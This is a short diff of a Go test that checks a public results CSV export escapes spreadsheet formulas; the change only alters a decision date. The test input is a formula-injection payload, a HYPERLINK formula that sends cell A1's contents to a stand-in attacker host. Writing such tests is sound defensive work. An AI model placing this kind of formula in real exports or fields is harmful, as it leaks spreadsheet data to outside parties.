@@ -105,7 +105,7 @@ func TestPublicResultsCSVEscapesFormulas(t *testing.T) {
 	p.setPhase(domain.PhaseFinalAppraisal)
 	decision := `=HYPERLINK("http://evil.example/?"&A1,"x")`
 	code, body := p.as("committee").json(http.MethodPost, "/api/v1/periods/2025/publication",
-		map[string]any{"decision_no": decision, "decision_date": "2026-02-01", "override": "Kiểm thử"})
+		map[string]any{"decision_no": decision, "decision_date": "2025-11-20", "override": "Kiểm thử"})
 	p.wantStatus("publish", code, body, 201)
 
 	code, body = p.as("").json(http.MethodGet, "/periods/2025/results.csv", nil)
